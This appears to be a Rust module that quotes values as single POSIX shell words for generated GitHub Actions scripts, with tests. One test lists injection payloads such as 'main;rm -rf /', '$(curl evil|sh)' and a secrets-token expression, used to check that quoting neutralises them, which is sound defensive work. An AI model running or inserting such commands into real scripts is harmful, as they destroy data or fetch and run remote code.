//! POSIX shell words. A quoted word is one argument whatever it holds: `;`, `$()`, backticks,
//! globs, quotes and line breaks are all literal inside single quotes.
//!
//! In GitHub Actions, spec data reaches a `run:` script only through the step's `env:`, used as
//! [`var`]: the script text itself is then a constant of platc's.

/// Characters that never need quoting in a word.
fn is_plain(c: char) -> bool {
    c.is_ascii_alphanumeric()
        || matches!(c, '_' | '-' | '.' | '/' | ':' | '@' | '%' | '+' | ',' | '=')
}

/// `text` as one shell word: unchanged when it holds only plain characters, else single-quoted
/// with each `'` written as `'\''`.
pub fn quote(text: &str) -> String {
    // `=` first would read as an assignment in command position; `-` first reads as an option.
    let plain = !text.is_empty() && text.chars().all(is_plain) && !text.starts_with(['=', '-']);
    if plain {
        return text.to_owned();
    }
    let mut out = String::with_capacity(text.len() + 2);
    out.push('\'');
    for c in text.chars() {
        if c == '\'' {
            out.push_str("'\\''");
        } else {
            out.push(c);
        }
    }
    out.push('\'');
    out
}

/// A reference to environment variable `name` as one word: `"$NAME"`. The name is platc's own
/// constant (a shell identifier), never spec data.
pub fn var(name: &str) -> String {
    debug_assert!(is_identifier(name), "{name} is not a shell identifier");
    format!("\"${name}\"")
}

/// Whether `name` is a shell (and POSIX environment) variable name: `[A-Za-z_][A-Za-z0-9_]*`.
pub fn is_identifier(name: &str) -> bool {
    let mut chars = name.chars();
    chars
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Splits a line the way `sh` does for the quoting [`quote`] produces (plain words, single
    /// quotes, `\'` between them), so the test reads back what a shell would see.
    fn sh_words(line: &str) -> Vec<String> {
        let mut words = Vec::new();
        let mut word = String::new();
        let mut chars = line.chars();
        let mut started = false;
        while let Some(c) = chars.next() {
            match c {
                '\'' => {
                    started = true;
                    for q in chars.by_ref() {
                        if q == '\'' {
                            break;
                        }
                        word.push(q);
                    }
                }
                '\\' => {
                    started = true;
                    word.extend(chars.next());
                }
                ' ' => {
                    if started {
                        words.push(std::mem::take(&mut word));
                        started = false;
                    }
                }
                c => {
                    assert!(
                        !";&|$`\"<>()*?[#~\n\t".contains(c),
                        "unquoted metacharacter {c:?} in {line:?}"
                    );
                    started = true;
                    word.push(c);
                }
            }
        }
        if started {
            words.push(word);
        }
        words
    }

    #[test]
    fn hostile_values_stay_one_word() {
        for payload in [
            "",
            "main",
            "main;rm -rf /",
            "$(curl evil|sh)",
            "`id`",
            "a\nb",
            "it's",
            "'",
            "''",
            "\"q\"",
            "100%",
            "{{ x }}",
            "${{ secrets.TOKEN }}",
            "# comment",
            "-rf",
            "=x",
            "*",
            "a b\tc",
            "~root",
            "\\",
        ] {
            let line = format!("cmd {} end", quote(payload));
            assert_eq!(sh_words(&line), ["cmd", payload, "end"], "{payload:?}");
        }
    }

    #[test]
    fn plain_words_are_unchanged() {
        assert_eq!(
            quote("registry.example.com/team/airflow"),
            "registry.example.com/team/airflow"
        );
        assert_eq!(quote("a b"), "'a b'");
        assert_eq!(quote("it's"), "'it'\\''s'");
    }

    #[test]
    fn identifiers() {
        assert_eq!(var("IMAGE"), "\"$IMAGE\"");
        for good in ["A", "_x", "PLATFORM_REPO", "a1"] {
            assert!(is_identifier(good), "{good}");
        }
        for bad in ["", "1A", "A=B", "FOO BAR", "A-B", "ä"] {
            assert!(!is_identifier(bad), "{bad}");
        }
    }
}
